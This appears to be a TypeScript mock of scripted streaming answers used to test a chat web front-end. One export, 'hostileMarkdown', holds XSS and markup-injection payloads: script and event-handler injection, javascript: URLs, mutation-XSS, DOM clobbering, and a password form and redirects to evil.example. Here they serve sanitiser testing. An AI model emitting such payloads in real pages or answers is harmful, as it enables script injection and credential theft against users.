import type { Citation, TokenUsage, ToolUse } from "../../src/web/shared/wire.ts";
import { cinemaCitations } from "./mock-citations.ts";
import { stateScripts } from "./mock-states.ts";
import { threadScripts } from "./mock-thread-scripts.ts";

/** One step of a scripted answer. */
export type Step =
  | { say: string }
  | { think: string }
  /** The tool, as it is called and once it has given something back. */
  | { tool: ToolUse }
  | { usage: TokenUsage }
  /** Why the model ends. */
  | { finish: string }
  /** The model fails: an error event with this code. */
  | { fail: string }
  /** The connection of everyone who reads breaks; the answer goes on. */
  | { drop: true }
  /** The link is revoked: for this answer and everything after. */
  | { revoke: true }
  | { pauseMs: number };

export interface Script {
  /** Answered instead of a stream. */
  refusal?: { status: number; code: string; detail: string; retryAfterS?: number };
  citations?: Citation[];
  steps: Step[];
}

const film =
  "《铃芽之旅》的导演是**新海诚**[1]。影片于 2022 年 11 月 11 日在日本上映，由原菜乃华为女主角岩户铃芽配音[2]。";

const filmCitations: Citation[] = [
  {
    index: 1,
    passage_id: "p1",
    document_id: "d1",
    document: "电影问答.csv",
    question: "《铃芽之旅》的导演是谁？",
    text: "《铃芽之旅》由新海诚执导并编剧，CoMix Wave Films 制作。",
    score: 0.94,
  },
  {
    index: 2,
    passage_id: "p2",
    document_id: "d1",
    document: "电影问答.csv",
    question: "谁为女主角配音？",
    text: "女主角岩户铃芽由原菜乃华配音，宗像草太由松村北斗配音。",
    score: 0.71,
  },
];

const longAnswer = `## Three ways to reach us

You can reach support by **chat, mail or phone**. Which one is quickest depends on the hour [1]:

| Channel | Hours (UTC) | Usual wait | Best for |
| --- | --- | ---: | --- |
| Chat | 07:00–22:00 | 2 min | Quick questions |
| Mail | always | 4 h | Anything with attachments |
| Phone | 08:00–18:00 | 6 min | Urgent outages |

To ask for your order's state from a script:

\`\`\`ts
const order = await fetch("https://api.example.com/orders/4711", {
  headers: { authorization: \`Bearer \${process.env.TOKEN}\` },
}).then((response) => response.json());
console.log(order.state); // "shipped"
\`\`\`

1. Open **Settings → Orders**.
2. Choose the order, then *Track*.
3. Copy the number from the [tracking page](https://example.com/track).

> Orders placed before noon leave the same day [2].
`;

const longCitations: Citation[] = [
  {
    index: 1,
    passage_id: "p3",
    document_id: "d2",
    document: "support-handbook.md",
    question: null,
    text: "Support answers in chat from 07:00 to 22:00 UTC, by mail around the clock and by phone from 08:00 to 18:00 UTC. The usual wait is two minutes in chat, four hours by mail and six minutes by phone.",
    score: 0.82,
  },
  {
    index: 2,
    passage_id: "p4",
    document_id: "d3",
    document: "shipping-faq-and-return-policy-2026-europe-and-overseas.csv",
    question: "When does my order leave?",
    text: "Orders placed before 12:00 UTC leave our warehouse the same day.",
    score: 0.64,
  },
];

/** Everything an answer might try to run, load or break out with. */
export const hostileMarkdown = [
  "Before <script>window.pwned = 1</script> after",
  "<img src=x onerror='window.pwned = 2'>",
  "<svg onload='window.pwned = 3'><animate onbegin='window.pwned = 4' attributeName=x dur=1s></svg>",
  "[click](javascript:window.pwned=5) [tab](java\tscript:window.pwned=6) [data](data:text/html,<script>1</script>)",
  "[vb](vbscript:x) [entity](&#106;avascript:window.pwned=7) <javascript:window.pwned=8>",
  '![x](http://tracker.example/a.png "t") ![y](javascript:window.pwned=9) ![z](data:image/svg+xml,<svg/onload=1>)',
  '![ok" onerror="window.pwned=10](https://images.example/a.png)',
  "<iframe src='https://evil.example'></iframe><object data='x'></object><embed src='x'>",
  "<form action='https://evil.example'><input name=password><button>Send</button></form>",
  "<style>body{display:none}</style><link rel=stylesheet href='https://evil.example/a.css'>",
  "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=11&gt;">',
  '<a href="https://ok.example" onclick="window.pwned=12" style="position:fixed;inset:0">cover</a>',
  '<div id="app" class="composer">clobber</div><img name="getElementById">',
  '```"><img src=x onerror=window.pwned=13>\ncode </code><script>window.pwned=14</script>\n```',
  "<video src='https://evil.example/v' autoplay></video><audio src='https://evil.example/a'></audio>",
  "[ok](https://ok.example/path) https://auto.example `<b>`",
].join("\n\n");

const words = (text: string): Step[] => (text.match(/[\s\S]{1,4}/gu) ?? []).map((part) => ({ say: part }));

/** What the mock answers to a question, chosen by a word in it. */
export function chooseScript(question: string): Script {
  const found = scripts.find(({ when }) => question.includes(when));
  return found?.script ?? { steps: words(`You asked: ${question}`) };
}

const scripts: { when: string; script: Script }[] = [
  ...stateScripts,
  ...threadScripts,
  { when: "导演", script: { citations: filmCitations, steps: words(film) } },
  {
    when: "ticket cost",
    script: {
      citations: cinemaCitations,
      steps: words("An adult pays **12**, a child 8 [2]. The desk opens at 15:00 [2, 3]; more on [9]."),
    },
  },
  { when: "cinema", script: { citations: cinemaCitations, steps: words("A house with one screen.") } },
  { when: "reach", script: { citations: longCitations, steps: words(longAnswer) } },
  {
    when: "think",
    script: {
      steps: [
        ...words("The person asks for a thought. ").map((step) => ({ think: "say" in step ? step.say : "" })),
        { think: "First I weigh it, then I answer." },
        ...words("Here is the considered answer."),
      ],
    },
  },
  { when: "hostile", script: { steps: [{ say: hostileMarkdown }] } },
  {
    when: "unavailable",
    script: {
      refusal: { status: 502, code: "upstream_unavailable", detail: "The upstream is unavailable." },
      steps: [],
    },
  },
  {
    when: "limit",
    script: {
      refusal: { status: 429, code: "too_many_questions", detail: "Too many questions.", retryAfterS: 30 },
      steps: [],
    },
  },
  {
    when: "daily",
    script: {
      refusal: {
        status: 429,
        code: "daily_limit_reached",
        detail:
          "You may ask 20 questions a day. The next day begins at midnight (UTC). Write to help@acme.example for more.",
        retryAfterS: 3_600,
      },
      steps: [],
    },
  },
  {
    when: "forbidden",
    script: {
      refusal: {
        status: 403,
        code: "question_refused",
        detail: "Acme answers no questions about salaries here.",
      },
      steps: [],
    },
  },
  {
    when: "somebody else",
    script: { refusal: { status: 403, code: "identity_changed", detail: "Somebody else." }, steps: [] },
  },
  {
    when: "signed out",
    script: { refusal: { status: 401, code: "session_ended", detail: "Ended." }, steps: [] },
  },
  {
    when: "break",
    script: { steps: [...words("This much came before "), { fail: "upstream_unavailable" }] },
  },
  {
    when: "drop",
    script: {
      steps: [
        ...words("The first half, "),
        // Long enough for what has been said to arrive, and for the page to come back while more is to come.
        { pauseMs: 200 },
        { drop: true },
        { pauseMs: 400 },
        ...words("and the second half."),
      ],
    },
  },
  { when: "revoke", script: { steps: [...words("Something before "), { revoke: true }] } },
  { when: "slow", script: { steps: words("A slow answer that goes on and on. ".repeat(40)) } },
  { when: "hang", script: { steps: [{ say: "Wait" }, { pauseMs: 600_000 }] } },
];
